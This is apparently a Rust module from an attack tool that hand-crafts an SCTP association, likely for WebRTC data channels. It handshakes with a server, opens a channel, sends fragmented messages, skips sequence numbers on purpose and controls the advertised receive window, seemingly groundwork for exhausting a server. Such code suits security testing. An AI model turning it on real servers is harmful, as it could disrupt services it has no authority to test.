//! An SCTP association held by hand: what is needed to stand, and then anything.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use super::wire::Wire;
use crate::attack::AttackError;
use crate::attack::craft::sctp::{self, BEGIN, DCEP, END, Packet, STRING, kind};

/// How long the server may take for each answer.
const ANSWER: Duration = Duration::from_millis(500);
/// How often a question is asked again: a flood may swallow it.
const ATTEMPTS: usize = 6;
/// Our own verification tag, window and first number: any will do.
const TAG: u32 = 0x4d61_6c6c;
const WINDOW: u32 = 1 << 20;
const FIRST_TSN: u32 = 1000;
/// As many bytes of a message as fit into a datagram.
const FRAGMENT: usize = 1100;
/// The parameter of an INIT ACK that holds the cookie (RFC 9260, section 3.3.3).
const STATE_COOKIE: u16 = 7;

/// An association that stands.
#[derive(Debug)]
pub struct Association<'a> {
    wire: &'a Wire,
    tag: u32,
    server_tsn: u32,
    next_tsn: u32,
    /// The last number of the server up to which nothing is missing, and what came beyond it.
    received: u32,
    ahead: BTreeSet<u32>,
    /// Messages said on the channel, the one that opened it among them.
    said: u16,
}

impl<'a> Association<'a> {
    /// Shakes hands (RFC 9260, section 5.1).
    ///
    /// # Errors
    ///
    /// When the server does not answer.
    pub async fn begins(wire: &'a Wire) -> Result<Self, AttackError> {
        let mut init = Vec::new();
        init.extend(TAG.to_be_bytes());
        init.extend(WINDOW.to_be_bytes());
        init.extend([0xff; 4]);
        init.extend(FIRST_TSN.to_be_bytes());
        // Supported extensions (RFC 5061): RECONFIG and FORWARD-TSN; and the latter by itself.
        init.extend([0x80, 0x08, 0, 6, kind::RECONFIG, kind::FORWARD_TSN, 0, 0]);
        init.extend([0xc0, 0, 0, 4]);
        let hello = Packet::tagged(0).chunk(kind::INIT, 0, &init).bytes();
        let answer = ask(wire, &hello, kind::INIT_ACK).await?;
        let word = |at: usize| {
            let bytes = answer.get(at..at + 4).and_then(|bytes| bytes.try_into().ok());
            bytes.map(u32::from_be_bytes).ok_or(AttackError::InVain("a whole INIT ACK"))
        };
        let (tag, server_tsn) = (word(0)?, word(12)?);
        let cookie = cookie(answer.get(16..).unwrap_or_default());
        let cookie = cookie.ok_or(AttackError::InVain("a cookie"))?;
        let echo = Packet::tagged(tag).chunk(kind::COOKIE_ECHO, 0, cookie).bytes();
        ask(wire, &echo, kind::COOKIE_ACK).await?;
        let received = server_tsn.wrapping_sub(1);
        let (next_tsn, ahead) = (FIRST_TSN, BTreeSet::new());
        Ok(Self { wire, tag, server_tsn, next_tsn, received, ahead, said: 0 })
    }

    /// A packet of this association, to be filled.
    pub fn packet(&self) -> Packet {
        Packet::tagged(self.tag)
    }

    /// The number of the next fragment.
    pub fn tsn(&mut self) -> u32 {
        self.skips(1)
    }

    /// Leaves out numbers; returns the first that is left out.
    pub fn skips(&mut self, numbers: u32) -> u32 {
        let tsn = self.next_tsn;
        self.next_tsn = self.next_tsn.wrapping_add(numbers);
        tsn
    }

    /// The server's first number.
    pub fn server_tsn(&self) -> u32 {
        self.server_tsn
    }

    /// Sends a packet.
    ///
    /// # Errors
    ///
    /// When there are no keys any more.
    pub fn sends(&self, packet: Packet) -> Result<(), AttackError> {
        self.wire.sends_secured(&packet.bytes())
    }

    /// Opens a channel on a stream, without waiting for the acknowledgement.
    ///
    /// # Errors
    ///
    /// When there are no keys any more.
    pub fn opens(&mut self, stream: u16) -> Result<(), AttackError> {
        let tsn = self.tsn();
        let open = sctp::channel_open("chat");
        self.said = 1;
        self.sends(self.packet().data(BEGIN | END, tsn, (stream, 0), DCEP, &open))
    }

    /// Says something on the stream of an open channel, in as many fragments as it takes.
    ///
    /// # Errors
    ///
    /// When there are no keys any more.
    pub fn says(&mut self, stream: u16, text: &[u8]) -> Result<(), AttackError> {
        let number = self.said;
        self.said = self.said.wrapping_add(1);
        let last = text.len().div_ceil(FRAGMENT).saturating_sub(1);
        for (index, part) in text.chunks(FRAGMENT).enumerate() {
            let begin = if index == 0 { BEGIN } else { 0 };
            let flags = if index == last { begin | END } else { begin };
            let tsn = self.tsn();
            self.sends(self.packet().data(flags, tsn, (stream, number), STRING, part))?;
        }
        Ok(())
    }

    /// Takes what the server sends, for so long, and acknowledges it with a window that says how
    /// much room is left. What comes when there is none is acknowledged with the next window.
    /// Returns the fragments taken.
    ///
    /// # Errors
    ///
    /// When there are no keys any more.
    pub async fn takes(&mut self, lasting: Duration, room: usize) -> Result<u64, AttackError> {
        let until = Instant::now() + lasting;
        let (mut taken, mut room) = (0, room);
        self.acknowledges(room)?;
        loop {
            let left = until.saturating_duration_since(Instant::now());
            let Some(packet) = self.wire.receives(left).await else { return Ok(taken) };
            let (fragments, bytes) = self.takes_packet(&packet)?;
            taken += fragments;
            let had = room;
            room = room.saturating_sub(bytes);
            if had > 0 && bytes > 0 {
                self.acknowledges(room)?;
            }
        }
    }

    /// Takes what is in a packet: how many fragments are new, and their bytes with those of old
    /// ones.
    fn takes_packet(&mut self, packet: &[u8]) -> Result<(u64, usize), AttackError> {
        let (mut fragments, mut bytes) = (0, 0);
        for (kind, _, value) in sctp::chunks(packet) {
            if kind == kind::HEARTBEAT {
                self.sends(self.packet().chunk(kind::HEARTBEAT_ACK, 0, value))?;
            }
            let (kind::DATA, [a, b, c, d, ..]) = (kind, value) else { continue };
            let tsn = u32::from_be_bytes([*a, *b, *c, *d]);
            fragments += u64::from(self.received(tsn));
            bytes += value.len();
        }
        Ok((fragments, bytes))
    }

    /// A fragment came; whether for the first time.
    fn received(&mut self, tsn: u32) -> bool {
        // Serial numbers (RFC 1982): what is not after the last one is old.
        if tsn.wrapping_sub(self.received).cast_signed() <= 0 || !self.ahead.insert(tsn) {
            return false;
        }
        while self.ahead.remove(&self.received.wrapping_add(1)) {
            self.received = self.received.wrapping_add(1);
        }
        true
    }

    fn acknowledges(&self, window: usize) -> Result<(), AttackError> {
        let mut value = Vec::new();
        value.extend(self.received.to_be_bytes());
        value.extend((window as u32).to_be_bytes());
        value.extend([0; 4]);
        self.sends(self.packet().chunk(kind::SACK, 0, &value))
    }
}

/// Sends a packet until a chunk of a kind comes back; returns its value.
async fn ask(wire: &Wire, question: &[u8], wanted: u8) -> Result<Vec<u8>, AttackError> {
    for _ in 0..ATTEMPTS {
        wire.sends_secured(question)?;
        while let Some(packet) = wire.receives(ANSWER).await {
            let found = sctp::chunks(&packet).into_iter().find(|(kind, _, _)| *kind == wanted);
            if let Some((_, _, value)) = found {
                return Ok(value.to_vec());
            }
        }
    }
    Err(AttackError::InVain("an answer of the association"))
}

/// The cookie among the parameters of an INIT ACK.
fn cookie(mut parameters: &[u8]) -> Option<&[u8]> {
    while let [a, b, high, low, ..] = *parameters {
        let length = usize::from(u16::from_be_bytes([high, low])).max(4);
        let value = parameters.get(4..length)?;
        if u16::from_be_bytes([a, b]) == STATE_COOKIE {
            return Some(value);
        }
        parameters = parameters.get(length.next_multiple_of(4)..).unwrap_or_default();
    }
    None
}
